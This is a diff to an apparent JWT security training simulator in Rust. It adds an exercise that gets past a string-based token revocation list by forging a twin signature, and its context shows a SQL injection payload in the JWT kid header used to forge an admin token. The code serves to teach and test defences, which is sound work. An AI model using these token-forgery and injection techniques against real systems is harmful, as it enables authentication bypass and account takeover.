@@ -11,7 +11,7 @@
 
 use jwt_playground::jwt::{base64url, sign_with, Algorithm, SigningKey};
 use jwt_playground::sim::attacker::{
-    attacker_key, attacker_public_jwk, ATTACKER_JWKS_URL, ATTACKER_KID,
+    attacker_key, attacker_public_jwk, twin_signature, ATTACKER_JWKS_URL, ATTACKER_KID,
 };
 use jwt_playground::sim::exercise::{Exercise, EXERCISES};
 use jwt_playground::sim::{
@@ -148,6 +148,13 @@ fn attack(exercise: &Exercise, w: &mut World) -> Exchange {
             let header = r#"{"alg":"HS256","typ":"JWT","kid":"x' UNION SELECT 'attacker-key' --"}"#;
             let token = hs256(header, &admin_claims(w), b"attacker-key");
             admin(w, token)
+        }
+        Weakness::DenylistByString => {
+            assert_eq!(w.revoke_token().status(), 200);
+            assert_eq!(w.get("/api/profile").status(), 401);
+            let twin = twin_signature(&w.token().unwrap()).unwrap();
+            w.set_token_text(twin);
+            w.get("/api/profile")
         }
         Weakness::ExpString => {
             let claims = admin_claims(w);
